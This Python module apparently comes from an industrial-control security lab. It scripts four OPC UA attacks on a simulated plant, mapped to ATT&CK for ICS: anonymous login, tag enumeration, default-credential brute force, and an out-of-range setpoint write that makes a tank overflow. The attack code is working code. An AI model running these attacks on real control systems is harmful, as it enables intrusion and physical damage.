"""Attacks on the plant's OPC UA server, from ``site.attacker``.

Each scenario is what a Python script built on asyncua (python-opcua's successor, a common
choice for OPC UA offensive scripts) sends; the client keeps asyncua's default application name
and URI, as such a script would, and binds ``site.attacker`` (see :class:`BoundClient`).

- ``opcua_anonymous_login``: GetEndpoints (which policies and logins are offered), then an
  anonymous session on the None endpoint that reads the server's identity (BuildInfo: maker,
  product, version), its namespaces and its status.
- ``opcua_browse``: an anonymous session browses the whole address space breadth-first from the
  Root folder (Browse requests of up to 50 nodes each, hierarchical references), then reads the
  value, data type, access level and description of every variable outside namespace 0: the
  plant's tags and which of them can be written.
- ``opcua_bruteforce``: one connection per attempt (HEL, OPN, CreateSession, ActivateSession
  with a user-name token) through a list of vendor default and common credentials; the site's
  real account comes late in the list, and the run stops at the first success, then reads the
  server status as the new user.
- ``opcua_setpoint_tamper``: an anonymous session writes SetpointHigh = 150 % (its EURange is
  0-100 %), which the server accepts: in Auto the pump then never stops and the tank overflows.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections import deque
from typing import Any

from asyncua import ua
from asyncua.common.node import Node
from asyncua.ua.attribute_ids import AttributeIds
from asyncua.ua.object_ids import ObjectIds
from asyncua.ua.uaerrors import UaStatusCodeError

from lab.base import LabSite, scenario
from lab.opcua_client import CONNECTION_ERRORS, BoundClient
from lab.opcua_server import NAMESPACE, nid, tag_nodeid

#: asyncua's own client identity (what an attack script built on it shows in CreateSession)
SCRIPT_NAME = "Pure Python Async Client"
SCRIPT_URI = "urn:example.org:FreeOpcUa:opcua-asyncio"

#: the brute force's list: vendor defaults and common guesses; the site's accounts go in late
WORDLIST: tuple[tuple[str, str], ...] = (
    ("admin", "admin"),
    ("Administrator", "password"),
    ("user", "user"),
    ("opcua", "opcua"),
    ("operator", "operator"),
    ("operator", "password"),
    ("operator", "123456"),
    ("operator", "Operator1"),
    ("operator", "operator123"),
    ("engineer", "engineer"),
    ("scada", "scada"),
    ("admin", "1234"),
)
#: the position in the list where the site's real accounts are inserted
REAL_ACCOUNT_AT = 11

TAMPER_TAG = "SetpointHigh"
TAMPER_VALUE = 150.0


def _url(site: LabSite) -> str:
    return f"opc.tcp://{site.opcua}:{site.opcua_port}"


def _client(site: LabSite, user: str | None = None, password: str | None = None) -> BoundClient:
    client = BoundClient(_url(site), source=site.attacker, timeout=4.0)
    client.name = client.description = SCRIPT_NAME
    client.application_uri = SCRIPT_URI
    client.session_timeout = 60_000
    if user is not None:
        client.set_user(user)
        client.set_password(password or "")
    return client


async def _close(client: BoundClient) -> None:
    with contextlib.suppress(Exception):
        await asyncio.wait_for(client.disconnect(), 3.0)
    client.disconnect_socket()


def _policy_name(uri: str) -> str:
    return uri.rsplit("#", 1)[-1]


@scenario(
    "opcua_anonymous_login",
    ("T0886", "T0888"),
    "opcua",
    "From the attacker, GetEndpoints on the plant's OPC UA server, then an anonymous session "
    "(no credentials) on its None endpoint, using the remote service without authenticating "
    "(T0886), which reads the server's BuildInfo (manufacturer, product, version), namespace "
    "array and status (remote system information, T0888).",
)
async def opcua_anonymous_login(site: LabSite) -> dict[str, Any]:
    """Log in anonymously and read what the server says about itself."""
    probe = _client(site)
    try:
        endpoints = await probe.connect_and_get_server_endpoints()
    finally:
        probe.disconnect_socket()
    offered = [
        {
            "policy": _policy_name(ep.SecurityPolicyUri),
            "mode": ep.SecurityMode.name,
            "tokens": [t.TokenType.name for t in ep.UserIdentityTokens],
        }
        for ep in endpoints
    ]
    client = _client(site)
    try:
        await client.connect()
    except UaStatusCodeError as exc:
        return {
            "targets": [site.opcua],
            "endpoints": offered,
            "anonymous": False,
            "status": type(exc).__name__,
        }
    try:
        info = {
            name: client.get_node(nid(getattr(ObjectIds, f"Server_ServerStatus_BuildInfo_{name}")))
            for name in ("ManufacturerName", "ProductName", "SoftwareVersion", "BuildNumber")
        }
        values = await client.read_values(list(info.values()))
        namespaces = await client.get_namespace_array()
        state = await client.get_node(nid(ObjectIds.Server_ServerStatus_State)).read_value()
    finally:
        await _close(client)
    return {
        "targets": [site.opcua],
        "endpoints": offered,
        "anonymous": True,
        "status": "Good",
        "server": {name: str(v) for name, v in zip(info, values, strict=True)},
        "namespaces": list(namespaces),
        "server_state": _state_name(state),
    }


@scenario(
    "opcua_browse",
    ("T0861", "T0802"),
    "opcua",
    "From the attacker, an anonymous OPC UA session browses the server's whole address space "
    "recursively from the Root folder (batched Browse requests), then reads the value, data "
    "type, access level and description of every plant variable: the points and tags (T0861), "
    "collected automatically with the native protocol (T0802).",
)
async def opcua_browse(site: LabSite, batch: int = 50) -> dict[str, Any]:
    """Enumerate every node, then describe the plant's tags."""
    client = _client(site)
    await client.connect()
    seen: set[ua.NodeId] = set()
    paths: dict[ua.NodeId, str] = {}
    variables: list[ua.NodeId] = []
    methods: list[str] = []
    requests = 0
    root = nid(ObjectIds.RootFolder)
    try:
        queue: deque[ua.NodeId] = deque([root])
        seen.add(root)
        paths[root] = ""
        while queue:
            chunk = [queue.popleft() for _ in range(min(batch, len(queue)))]
            params = ua.BrowseParameters()
            params.RequestedMaxReferencesPerNode = 0
            for node_id in chunk:
                desc = ua.BrowseDescription()
                desc.NodeId = node_id
                desc.BrowseDirection = ua.BrowseDirection.Forward
                desc.ReferenceTypeId = nid(ObjectIds.HierarchicalReferences)
                desc.IncludeSubtypes = True
                desc.NodeClassMask = 0
                desc.ResultMask = ua.BrowseResultMask.All
                params.NodesToBrowse.append(desc)
            results = await client.uaclient.browse(params)
            requests += 1
            for parent, result in zip(chunk, results, strict=True):
                for ref in result.References or []:
                    target = ref.NodeId
                    if target in seen:
                        continue
                    seen.add(target)
                    paths[target] = f"{paths[parent]}/{ref.BrowseName.Name}"
                    queue.append(target)
                    if target.NamespaceIndex == 0:
                        continue
                    if ref.NodeClass == ua.NodeClass.Variable:
                        variables.append(target)
                    elif ref.NodeClass == ua.NodeClass.Method:
                        methods.append(paths[target])
        tags = await _describe(client, variables, paths)
    finally:
        await _close(client)
    return {
        "targets": [site.opcua],
        "nodes_browsed": len(seen),
        "browse_requests": requests,
        "tags": tags,
        "writable": [t["path"] for t in tags if t["writable"]],
        "methods": methods,
    }


async def _describe(
    client: BoundClient, variables: list[ua.NodeId], paths: dict[ua.NodeId, str]
) -> list[dict[str, Any]]:
    """Read value, data type, access level and description of each variable (one Read)."""
    attributes = (
        AttributeIds.Value,
        AttributeIds.DataType,
        AttributeIds.AccessLevel,
        AttributeIds.Description,
    )
    params = ua.ReadParameters()
    for node_id in variables:
        for attribute in attributes:
            rv = ua.ReadValueId()
            rv.NodeId = node_id
            rv.AttributeId = attribute
            params.NodesToRead.append(rv)
    if not variables:
        return []
    results = await client.uaclient.read(params)
    tags = []
    for i, node_id in enumerate(variables):
        value, dtype, access, description = results[i * 4 : i * 4 + 4]
        level = access.Value.Value if access.Value is not None else 0
        tags.append(
            {
                "node": node_id.to_string(),
                "path": paths[node_id],
                "value": _plain(value.Value.Value if value.Value is not None else None),
                "datatype": _plain(dtype.Value.Value if dtype.Value is not None else None),
                "writable": bool(level & ua.AccessLevel.CurrentWrite.mask),
                "description": _plain(
                    description.Value.Value if description.Value is not None else None
                ),
            }
        )
    return tags


def _state_name(state: Any) -> str:
    try:
        return ua.ServerState(int(state)).name
    except (TypeError, ValueError):
        return str(state)


def _plain(value: Any) -> Any:
    """A JSON-friendly form of an OPC UA value."""
    if value is None or isinstance(value, bool | int | float | str):
        return value
    if isinstance(value, ua.LocalizedText):
        return value.Text
    if isinstance(value, ua.NodeId):
        return value.to_string()
    if isinstance(value, list):
        return [_plain(v) for v in value]
    return str(value)


@scenario(
    "opcua_bruteforce",
    ("T0859", "T0812"),
    "opcua",
    "From the attacker, one OPC UA connection per guess (HEL, OPN, CreateSession, "
    "ActivateSession with a user-name token) through vendor default credentials (T0812) and "
    "common passwords, each refused with BadUserAccessDenied, until the site's real account, "
    "late in the list, opens a session: a valid account in the attacker's hands (T0859).",
)
async def opcua_bruteforce(site: LabSite, pause_s: float = 0.1) -> dict[str, Any]:
    """Guess user names and passwords until one works."""
    guesses = list(WORDLIST)
    for offset, account in enumerate(site.opcua_users):
        guesses.insert(REAL_ACCOUNT_AT + offset, account)
    attempts: list[dict[str, Any]] = []
    found: str | None = None
    for user, password in guesses:
        client = _client(site, user, password)
        try:
            await client.connect()
        except UaStatusCodeError as exc:
            attempts.append({"user": user, "status": type(exc).__name__})
            await asyncio.sleep(pause_s)
            continue
        except CONNECTION_ERRORS as exc:
            attempts.append({"user": user, "status": f"error: {exc!r}"})
            await asyncio.sleep(pause_s)
            continue
        try:
            state = await client.get_node(nid(ObjectIds.Server_ServerStatus_State)).read_value()
            attempts.append({"user": user, "status": "Good", "server_state": _state_name(state)})
            found = user
        finally:
            await _close(client)
        break
    return {
        "targets": [site.opcua],
        "attempts": len(attempts),
        "failures": sum(1 for a in attempts if a["status"] != "Good"),
        "user_found": found,
        "log": attempts,
    }


@scenario(
    "opcua_setpoint_tamper",
    ("T0836",),
    "opcua",
    "From the attacker, an anonymous OPC UA session (no credentials) writes Tank1.SetpointHigh "
    "= 150 % on the plant's OPC UA server, outside its EURange of 0-100 %; the server accepts "
    "it, so in Auto the pump no longer stops and the tank fills to overflow (T0836 Modify "
    "Parameter).",
)
async def opcua_setpoint_tamper(site: LabSite) -> dict[str, Any]:
    """Write an out-of-range high-level setpoint from an unauthenticated session."""
    client = _client(site)
    await client.connect()
    try:
        ns = await client.get_namespace_index(NAMESPACE)
        node: Node = client.get_node(tag_nodeid(TAMPER_TAG, ns))
        eu_range = await (await node.get_child(ua.QualifiedName("EURange", 0))).read_value()
        before = await node.read_value()
        status = "Good"
        try:
            await node.write_value(ua.Variant(TAMPER_VALUE, ua.VariantType.Double))
        except UaStatusCodeError as exc:
            status = type(exc).__name__
        after = await node.read_value()
        level = await client.get_node(tag_nodeid("Level", ns)).read_value()
    finally:
        await _close(client)
    return {
        "targets": [site.opcua],
        "node": tag_nodeid(TAMPER_TAG, ns).to_string(),
        "eu_range": [eu_range.Low, eu_range.High],
        "before": before,
        "written": TAMPER_VALUE,
        "status": status,
        "after": after,
        "level_pct": level,
    }
